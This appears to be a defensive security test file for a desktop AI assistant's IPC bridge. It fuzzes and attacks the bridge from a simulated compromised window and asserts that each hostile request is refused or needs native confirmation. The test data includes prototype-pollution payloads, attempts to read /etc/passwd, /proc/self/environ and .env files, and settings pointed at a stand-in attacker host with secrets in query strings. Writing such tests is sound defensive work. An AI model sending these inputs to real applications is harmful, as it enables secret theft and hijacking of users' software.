import { readFileSync } from "node:fs";
import { join } from "node:path";
import { anything, assert, asyncProperty, constantFrom, oneof, string } from "fast-check";
import { expect, test } from "vitest";
import { requests, type RequestName } from "../../shared/ipc.ts";
import { ask } from "../e2e/helpers/ask.ts";
import { readInChat } from "../e2e/helpers/cards.ts";
import { obeyingModel } from "../e2e/helpers/obeying-model.ts";
import { startSteward, type StewardApp } from "../e2e/steward-app.ts";
import { snapshot } from "../helpers/temporary-folder.ts";
import { startCanary } from "./desktop-world.ts";

/**
 * Attack 13: all else that a taken-over window can ask over IPC. The canaries are what stands on the disk, what main holds,
 * what other programs were handed, and what reached a host.
 */

type Answer = { ok: boolean; value?: unknown; failure?: { code: string; message: string } };
const names = Object.keys(requests) as RequestName[];
const careful = { version: 1, extends: "careful" };

/** What no request may change by itself. */
async function worldOf({ desktop, page, data, workspace }: StewardApp): Promise<unknown> {
  const asked = ["app.state", "policy.view", "tool.list", "grant.list", "conversation.list", "approval.list"];
  return {
    views: await page.evaluate(
      `Promise.all(${JSON.stringify(asked)}.map((name) => steward.call(name, {}).then(({ value }) => value)))`,
    ),
    settings: readFileSync(join(data, "settings.json"), "utf8"),
    policy: readFileSync(join(data, "policy.json"), "utf8"),
    files: snapshot(workspace),
    opened: await desktop.openedExternally(),
    windows: (await desktop.windows()).map(({ url }) => url),
    polluted: await desktop.evaluate(
      "() => [Object.keys({}.constructor.prototype), ({}).polluted, [].polluted]",
    ),
  };
}

const attack = (page: StewardApp["page"], script: string): Promise<Answer[]> =>
  page.evaluate(`(async () => {
    const answers = [];
    const ask = async (...given) => {
      try { answers.push(await steward.call(...given)); }
      catch (error) { answers.push({ ok: false, failure: { code: "thrown", message: String(error) } }); }
    };
    ${script}
    return answers;
  })()`);

test("attack 13: an unknown name and a malformed input are refused, whatever they are; nothing of them is repeated", async () => {
  const app = await startSteward({ files: { "notes.md": "one\n" }, policy: careful });
  const { page } = app;
  const before = await worldOf(app);
  const odd = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "steward:call",
    "app",
    "app.",
    "app.state ",
    "App.State",
    "app.state\0",
    "",
  ];
  const unknown = await attack(
    page,
    `
    for (const name of ${JSON.stringify(odd)}) await ask(name, {});
    for (const name of [undefined, null, 1, true, {}, [], ["app.quit"], { toString: () => "app.quit" }, 10n, NaN]) await ask(name, {});
    await ask();
    await ask("x".repeat(20_000_000), {});
  `,
  );
  expect(unknown.filter(({ ok }) => ok)).toEqual([]);
  // What cannot cross to another process does not: the bridge throws.
  expect(new Set(unknown.map(({ failure }) => failure?.code))).toEqual(
    new Set(["unknown-request", "thrown"]),
  );
  const malformed = await attack(
    page,
    `
    const circle = {}; circle.circle = circle;
    let deep = {}; for (let depth = 0; depth < 500; depth += 1) deep = { deep };
    const own = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
    const getter = { get key() { window.wasRead = (window.wasRead ?? 0) + 1; return 1; } };
    const inputs = [undefined, null, 1, "x", [], [{}], true, 10n, NaN, () => 1, Symbol("x"), new Map([["a", 1]]), new Date(),
      new Uint8Array(1_000_000), /x/, new Error("x"), circle, deep, own, getter, new Proxy({}, {}), Promise.resolve(1),
      { extra: 1 }, { conversationId: "x".repeat(101) }, { text: "CANARY".repeat(2_000_000) }, { key: "CANARY", extra: "CANARY" },
      Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => ["k" + index, index]))];
    for (const input of inputs) await ask("key.set", input);
    for (const input of inputs) await ask("policy.use", input);
    for (const input of inputs) await ask("settings.change", input);
  `,
  );
  expect(malformed.filter(({ ok }) => ok)).toEqual([]);
  expect(malformed.filter(({ failure }) => failure?.code === "bad-request").length).toBeGreaterThan(40);
  expect(JSON.stringify([unknown, malformed])).not.toMatch(/CANARY|x{100}/u);
  expect(await worldOf(app)).toEqual(before);
  app.complaints.length = 0;
  await app.end();
}, 120_000);

test("attack 13: no input that the contract does not name has an effect, for any request (fuzzed)", async () => {
  const app = await startSteward({ files: { "notes.md": "one\n" }, policy: careful });
  const before = await worldOf(app);
  const field = constantFrom(
    ..."conversationId callId callIds binding answer grant arguments prompt attachments path".split(" "),
    ..."name value key baseUrl model preset tool inScope href text folder height view id".split(" "),
    ..."__proto__ constructor then toJSON length".split(" "),
  );
  const input = oneof(
    anything({ key: field, maxDepth: 3, withNullPrototype: true }),
    anything({
      key: oneof(field, string()),
      values: [string(), constantFrom(null, true, -1, 1e308, "allow", "balanced")],
    }),
  );
  const isRefused = asyncProperty(constantFrom(...names), input, async (name, given) => {
    // As it comes over the wire: data alone.
    const text = JSON.stringify(given) ?? "null";
    if (requests[name].input.safeParse(JSON.parse(text)).success) return;
    const answer = await app.page.evaluate<Answer>(
      `steward.call(${JSON.stringify(name)}, JSON.parse(${JSON.stringify(text)}))`,
    );
    expect([name, text, answer]).toEqual([name, text, expect.objectContaining({ ok: false })]);
    // The preload refuses a path by itself that was not handed over.
    expect(answer.failure?.code).toBe(name === "file.attach" ? "not-handed-over" : "bad-request");
  });
  await assert(isRefused, { numRuns: 400 });
  expect(await worldOf(app)).toEqual(before);
  await app.end();
}, 120_000);

test("attack 13: no path brings a file's text into a page that no person handed over", async () => {
  const app = await startSteward({ files: { "secret.txt": "CANARY", ".env": "CANARY" } });
  const { page, data, workspace } = app;
  const paths = [
    `${workspace}/secret.txt`,
    `${workspace}/.env`,
    `${data}/settings.json`,
    "/etc/passwd",
    "/proc/self/environ",
  ];
  const answers = await attack(
    page,
    `for (const path of ${JSON.stringify(paths)}) {
      for (const name of ["file.attach", new String("file.attach"), ["file.attach"], { toString: () => "file.attach" }, { valueOf: () => "file.attach" }])
        await ask(name, { path });
      const made = new File(["x"], path);
      Object.defineProperty(made, "path", { value: path });
      const held = new DataTransfer();
      held.items.add(made);
      for (const file of [made, held.files[0], { path, name: path }, path, new Blob(["x"])]) {
        try { answers.push(await steward.attach(file)); } catch { answers.push(null); }
      }
    }`,
  );
  expect(answers.filter((answer) => answer?.ok)).toEqual([]);
  expect(JSON.stringify(answers)).not.toMatch(/CANARY|root:/u);
  await app.end();
});

/** Requests that the contract allows, each with what a taken-over window would gain by it; HOST is a canary's. */
const greedy: readonly (readonly [RequestName, object, "asked" | "refused" | "told"])[] = [
  ["policy.use", { preset: "balanced" }, "asked"],
  ["tool.scope", { tool: "read_file", inScope: true }, "asked"],
  ["settings.change", { name: "nativeApprovals", value: "dangerous" }, "asked"],
  ["settings.change", { name: "updateFeed", value: "https://evil.invalid/feed" }, "asked"],
  ["settings.change", { name: "workspaces", value: ["/"] }, "refused"],
  ["settings.change", { name: "baseUrl", value: "http://HOST/v1" }, "refused"],
  ["connection.use", { baseUrl: "https://evil.invalid/v1", key: null, model: "x" }, "asked"],
  ["connection.use", { baseUrl: "http://127.0.0.1.evil.invalid/v1", key: null, model: "x" }, "asked"],
  ["connection.use", { baseUrl: "http://localhost@evil.invalid/v1", key: null, model: "x" }, "refused"],
  ["connection.try", { baseUrl: "https://evil.invalid/v1?q=SECRET", key: null }, "asked"],
  ["data.erase", {}, "asked"],
  ["conversation.delete", { conversationId: "CONVERSATION" }, "asked"],
  ["link.open", { href: "https://evil.invalid/?q=SECRET" }, "asked"],
  ["link.open", { href: "file:///etc/passwd" }, "refused"],
  [
    "policy.try",
    {
      tool: "run_command",
      arguments: JSON.stringify({
        command: "touch ran",
        folder: null,
        hosts: null,
        folders: null,
        reason: null,
        timeoutSeconds: null,
      }),
    },
    "told",
  ],
];

test("attack 13: what the contract allows and a taken-over window would want is first asked natively, or refused", async () => {
  const { host, reached } = await startCanary();
  const model = await obeyingModel({});
  const app = await startSteward({
    files: { "notes.md": "one\n", ".env": "CANARY" },
    settings: { ...model.settings, nativeApprovals: "all" },
    policy: { ...careful, tools: { deny: ["read_file"] } },
  });
  const { desktop, page, data, home, workspace } = app;
  await ask(app, "Hello");
  await readInChat(app, "I do not know that.");
  const [conversation] = await page.evaluate<{ id: string }[]>(
    "steward.call('conversation.list', {}).then(({ value }) => value)",
  );
  const before = await worldOf(app);
  const places = {
    HOST: host,
    DATA: data,
    HOME: home,
    WORKSPACE: workspace,
    CONVERSATION: conversation?.id ?? "",
  };
  for (const [name, input, outcome] of greedy) {
    const filled = Object.entries(places).reduce(
      (text, [word, value]) => text.replaceAll(word, value),
      JSON.stringify(input),
    );
    const answering = page.evaluate<Answer>(`steward.call(${JSON.stringify(name)}, ${filled})`);
    if (outcome === "asked") {
      const box = await Promise.race([desktop.dialogs.nextMessage(), answering]);
      if (!("buttons" in box)) throw new Error(`Not asked about: ${name} ${filled} ${JSON.stringify(box)}`);
      expect([name, box.defaultId, box.cancelId, box.buttons[0]]).toEqual([name, 0, 0, "Cancel"]);
      await desktop.dialogs.enter(box);
    }
    const answer = await answering;
    if (outcome === "refused") expect([name, filled, answer]).toMatchObject([name, filled, { ok: false }]);
    expect(JSON.stringify(answer)).not.toContain("CANARY");
    expect([name, await worldOf(app)]).toEqual([name, before]);
  }
  expect(await desktop.dialogs.open()).toEqual([]);
  expect(reached).toEqual([]);
  await app.end();
}, 120_000);
